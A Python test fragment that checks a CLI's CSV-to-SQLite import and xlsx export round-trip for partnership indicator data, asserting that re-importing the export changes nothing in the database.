    url = f"sqlite:///{tmp_path / 'd.sqlite3'}"
    (tmp_path / "f.csv").write_text("partnership,indicator,period,value,numerator,denominator,note\n"
                                    "dudley,NI114,1960/61,,1,3,\ndudley,NI114,1961/62,,2,7,\n"
                                    "dudley,NI16,1962/63,0.30000000000000004,,,\n")
    runner = CliRunner()
    res = runner.invoke(cli, ["--db", url, "import", str(tmp_path / "f.csv")])
    assert res.exit_code == 0 and "added 3" in res.stderr, res.stderr
    out = tmp_path / "f.xlsx"
    res = runner.invoke(cli, ["--db", url, "export", "-p", "dudley", "-i", "NI114", "-i", "NI16", "-o", str(out)])
    assert res.exit_code == 0, res.stderr
    before = db_digest(url)
    res = runner.invoke(cli, ["--db", url, "import", str(out)])
    assert res.exit_code == 0 and "changed 0" in res.stderr and "unchanged 3" in res.stderr, res.stderr
    assert db_digest(url) == before
